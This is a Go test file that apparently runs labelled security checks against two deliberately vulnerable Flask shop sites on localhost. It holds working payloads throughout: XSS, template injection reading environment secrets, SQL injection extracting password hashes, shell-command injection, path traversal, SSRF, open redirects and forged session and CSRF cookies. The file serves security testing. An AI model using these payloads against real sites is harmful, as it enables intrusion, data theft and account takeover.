package examples_test

import (
	"bytes"
	"compress/zlib"
	"crypto/hmac"
	"crypto/sha1"
	"encoding/base64"
	"encoding/json"
	"fmt"
	"io"
	"net/http"
	"net/url"
	"strings"
	"testing"
)

// notOnTheWire is the one listed check that no request can show: the test
// binds both shops to 127.0.0.1, whatever the Dockerfile says.
const notOnTheWire = "FLASK-DEPLOY-001/bind-all"

// attack tries one flaw. It says whether the flaw worked, and what was seen.
type attack struct {
	check string
	run   func(t *testing.T, s *site) (worked bool, seen string)
}

func attacks() []attack {
	var all []attack
	for _, part := range [][]attack{deployAttacks(), headerAttacks(), sessionAttacks(), pageAttacks(), fileAttacks(), injectionAttacks(), outsideAttacks()} {
		all = append(all, part...)
	}
	return all
}

func query(path string, pairs ...string) string {
	values := url.Values{}
	for i := 0; i < len(pairs); i += 2 {
		values.Set(pairs[i], pairs[i+1])
	}
	return path + "?" + values.Encode()
}

func contains(r reply, text string) (bool, string) {
	return strings.Contains(r.body, text), fmt.Sprintf("status %d, %.300s", r.status, r.body)
}

func deployAttacks() []attack {
	return []attack{
		{"FLASK-DEPLOY-001/dev-server", func(t *testing.T, s *site) (bool, string) {
			server := s.visitor(t).get("/").header.Get("Server")
			return strings.HasPrefix(server, "Werkzeug/"), server
		}},
		{"FLASK-DEPLOY-002/debug", func(t *testing.T, s *site) (bool, string) {
			return contains(s.visitor(t).get(query("/products/1/label", "pattern", "{p.nothing}")), "AttributeError")
		}},
		{"FLASK-DEPLOY-002/env-debug", func(t *testing.T, s *site) (bool, string) {
			return contains(s.visitor(t).get("/?__debugger__=yes&cmd=resource&f=debugger.js"), "__debugger__")
		}},
	}
}

// lacks asks for a page and looks for headers of which one would be enough.
func lacks(part string, names ...string) func(*testing.T, *site) (bool, string) {
	return func(t *testing.T, s *site) (bool, string) {
		h := s.visitor(t).get("/").header
		for _, n := range names {
			if v := h.Get(n); strings.Contains(v, part) && v != "" {
				return false, n + ": " + v
			}
		}
		return true, fmt.Sprint("no ", names)
	}
}

func headerAttacks() []attack {
	return []attack{
		{"FLASK-HEADERS-001/csp", lacks("default-src", "Content-Security-Policy")},
		{"FLASK-HEADERS-001/frame", lacks("", "X-Frame-Options")},
		{"FLASK-HEADERS-001/nosniff", lacks("nosniff", "X-Content-Type-Options")},
		{"FLASK-CORS-001/reflect-origin", func(t *testing.T, s *site) (bool, string) {
			origin := "https://elsewhere.example"
			h := s.visitor(t).send("GET", "/", "", nil, http.Header{"Origin": {origin}}).header
			return h.Get("Access-Control-Allow-Origin") == origin && h.Get("Access-Control-Allow-Credentials") == "true", fmt.Sprint(h["Access-Control-Allow-Origin"])
		}},
	}
}

func sessionAttacks() []attack {
	return []attack{
		{"FLASK-CONFIG-001/fallback-literal", func(t *testing.T, s *site) (bool, string) {
			v := s.visitor(t)
			key := mac([]byte("shop-secret-2019"), "cookie-session")
			v.cookies["session"] = signed(key, `{"account_id":1}`)
			r := v.get("/admin/")
			return r.status == http.StatusOK, fmt.Sprint("a forged session got status ", r.status)
		}},
		{"FLASK-CONFIG-001/hardcoded-key", func(t *testing.T, s *site) (bool, string) {
			v := s.visitor(t)
			v.get("/login")
			inner := sessionValue(t, v.cookies["session"], "csrf_token")
			key := sha1.Sum([]byte("wtf-csrf-tokensigner9f2c61d0b7e84a35c1d86f03ab57e912"))
			r := v.post("/logout", url.Values{"csrf_token": {signed(key[:], `"`+inner+`"`)}})
			return r.status == http.StatusFound, fmt.Sprint("a forged CSRF token got status ", r.status)
		}},
		{"FLASK-AUTH-003/attempts", func(t *testing.T, s *site) (bool, string) {
			v := s.visitor(t)
			for range 12 {
				v.post("/login", url.Values{"name": {"carl"}, "password": {"guess"}, "csrf_token": {v.token()}})
			}
			r := v.post("/login", url.Values{"name": {"carl"}, "password": {password}, "csrf_token": {v.token()}})
			return r.status == http.StatusFound, fmt.Sprint("the right password after twelve wrong ones got status ", r.status)
		}},
		{"FLASK-SESS-001/secure", func(t *testing.T, s *site) (bool, string) {
			return anyCookie(t, s, func(c *http.Cookie) bool { return !c.Secure })
		}},
		{"FLASK-SESS-001/httponly", func(t *testing.T, s *site) (bool, string) {
			return anyCookie(t, s, func(c *http.Cookie) bool { return !c.HttpOnly })
		}},
		{"FLASK-SESS-001/samesite", func(t *testing.T, s *site) (bool, string) {
			return anyCookie(t, s, func(c *http.Cookie) bool { return c.SameSite != http.SameSiteLaxMode })
		}},
	}
}

// anyCookie signs in, where the session and last_login are set, and asks about both.
func anyCookie(t *testing.T, s *site, lacks func(*http.Cookie) bool) (bool, string) {
	t.Helper()
	r := s.visitor(t).signIn("/login")
	var found []string
	for _, name := range []string{"session", "last_login"} {
		cookie := r.cookies[name]
		if cookie == nil {
			t.Fatalf("no cookie %s was set", name)
		}
		if lacks(cookie) {
			found = append(found, name)
		}
	}
	return len(found) > 0, fmt.Sprint("without the attribute: ", found)
}

func mac(key []byte, text string) []byte {
	h := hmac.New(sha1.New, key)
	h.Write([]byte(text))
	return h.Sum(nil)
}

// signed writes a value as itsdangerous does: payload.time.signature.
func signed(key []byte, payload string) string {
	code := base64.RawURLEncoding
	value := code.EncodeToString([]byte(payload)) + "." + code.EncodeToString(nowBytes())
	return value + "." + code.EncodeToString(mac(key, value))
}

// sessionValue reads one entry of a Flask session: anyone who has the cookie can.
func sessionValue(t *testing.T, cookie, name string) string {
	t.Helper()
	packed := strings.HasPrefix(cookie, ".")
	payload, _, _ := strings.Cut(strings.TrimPrefix(cookie, "."), ".")
	text, err := base64.RawURLEncoding.DecodeString(payload)
	if err != nil {
		t.Fatal(err)
	}
	if packed {
		reader, err := zlib.NewReader(bytes.NewReader(text))
		if err != nil {
			t.Fatal(err)
		}
		if text, err = io.ReadAll(io.LimitReader(reader, 1<<16)); err != nil {
			t.Fatal(err)
		}
	}
	var entries map[string]any
	if err := json.Unmarshal(text, &entries); err != nil {
		t.Fatal(err)
	}
	value, _ := entries[name].(string)
	return value
}

func pageAttacks() []attack {
	const script = `<script>alert(1)</script>`
	return []attack{
		{"FLASK-XSS-001/reflected", func(t *testing.T, s *site) (bool, string) {
			return contains(s.visitor(t).get(query("/search", "q", script)), script)
		}},
		{"FLASK-XSS-001/markup", func(t *testing.T, s *site) (bool, string) {
			return contains(s.visitor(t).get(query("/search", "q", script+"' OR 1=1 --")), "results for <em>"+script)
		}},
		{"FLASK-XSS-001/stored", func(t *testing.T, s *site) (bool, string) {
			v := s.signedIn(t)
			v.post("/products/1/reviews", url.Values{"body": {script}, "csrf_token": {v.token()}})
			return contains(s.visitor(t).get("/products/1/reviews"), script)
		}},
		{"FLASK-XSS-001/autoescape-off", func(t *testing.T, s *site) (bool, string) {
			return contains(s.signedIn(t).get(query("/admin/mail-source", "name", script)), script)
		}},
		{"FLASK-SSTI-001/template-injection", func(t *testing.T, s *site) (bool, string) {
			v := s.signedIn(t)
			body := url.Values{"body": {"{{ cycler.__init__.__globals__.os.environ.SHOP_DATA }}"}, "csrf_token": {v.token()}}
			return contains(v.post("/admin/mail-preview", body), s.data)
		}},
		{"FLASK-SSTI-001/format-string", func(t *testing.T, s *site) (bool, string) {
			return contains(s.visitor(t).get(query("/products/1/label", "pattern", "{p.__init__.__globals__[os].environ[SHOP_DATA]}")), s.data)
		}},
	}
}

func fileAttacks() []attack {
	read := func(path, parameter, value string) func(*testing.T, *site) (bool, string) {
		return func(t *testing.T, s *site) (bool, string) {
			return contains(s.signedIn(t).get(query(path, parameter, value)), secretText)
		}
	}
	return []attack{
		{"FLASK-PATH-001/send-file", read("/orders/invoice", "file", "../secret.txt")},
		{"FLASK-PATH-001/traversal", read("/files/note", "name", "../secret.txt")},
		{"FLASK-PATH-001/weak-guard", read("/files/picture", "name", "....//secret.txt")},
	}
}

func injectionAttacks() []attack {
	return []attack{
		{"FLASK-INJECT-001/sql", func(t *testing.T, s *site) (bool, string) {
			return contains(s.visitor(t).get(query("/search", "q", "' UNION SELECT id, password_hash, 0, 0 FROM account --")), "scrypt:")
		}},
		{"FLASK-INJECT-001/identifier", func(t *testing.T, s *site) (bool, string) {
			ask := func(name string) string {
				order := "CASE WHEN (SELECT name FROM account WHERE is_staff = 1) = '" + name + "' THEN price ELSE -price END"
				return s.visitor(t).get(query("/products", "sort", order)).body
			}
			ada, bob := strings.Index(ask("ada"), "Kettle")-strings.Index(ask("ada"), "Cup"), strings.Index(ask("bob"), "Kettle")-strings.Index(ask("bob"), "Cup")
			return (ada > 0) != (bob > 0), fmt.Sprintf("the order of the list tells the name: %v", (ada > 0) != (bob > 0))
		}},
		{"FLASK-INJECT-002/shell", func(t *testing.T, s *site) (bool, string) {
			v := s.signedIn(t)
			form := url.Values{"folder": {". > /dev/null; echo six times seven is $((6*7))"}, "csrf_token": {v.token()}}
			return contains(v.post("/admin/archive", form), "six times seven is 42")
		}},
		{"FLASK-INJECT-002/argument", func(t *testing.T, s *site) (bool, string) {
			return contains(s.signedIn(t).get(query("/admin/log", "q", "--regexp=.")), "POST /login")
		}},
	}
}

func outsideAttacks() []attack {
	const elsewhere = "elsewhere.example"
	leads := func(r reply) (bool, string) {
		where := r.header.Get("Location")
		return strings.HasPrefix(where, "http") && strings.Contains(where, elsewhere), where
	}
	return []attack{
		{"FLASK-SSRF-001/full", func(t *testing.T, s *site) (bool, string) {
			return contains(s.signedIn(t).get(query("/webhooks/preview", "url", "http://127.0.0.1:"+s.inside+"/")), "inside the network")
		}},
		{"FLASK-SSRF-001/partial", func(t *testing.T, s *site) (bool, string) {
			return contains(s.signedIn(t).get(query("/webhooks/stock", "path", ":"+s.inside+"/")), "inside the network")
		}},
		{"FLASK-REDIRECT-001/open-redirect", func(t *testing.T, s *site) (bool, string) {
			return leads(s.visitor(t).get(query("/leave", "to", "https://"+elsewhere+"/")))
		}},
		{"FLASK-REDIRECT-001/weak-guard", func(t *testing.T, s *site) (bool, string) {
			return leads(s.visitor(t).signIn(query("/login", "next", "http:"+elsewhere)))
		}},
		{"FLASK-REDIRECT-001/referrer", func(t *testing.T, s *site) (bool, string) {
			v := s.visitor(t)
			form := url.Values{"currency": {"EUR"}, "csrf_token": {v.token()}}
			return leads(v.send(http.MethodPost, "/currency", "application/x-www-form-urlencoded", []byte(form.Encode()),
				http.Header{"Referer": {"https://" + elsewhere + "/page"}}))
		}},
	}
}
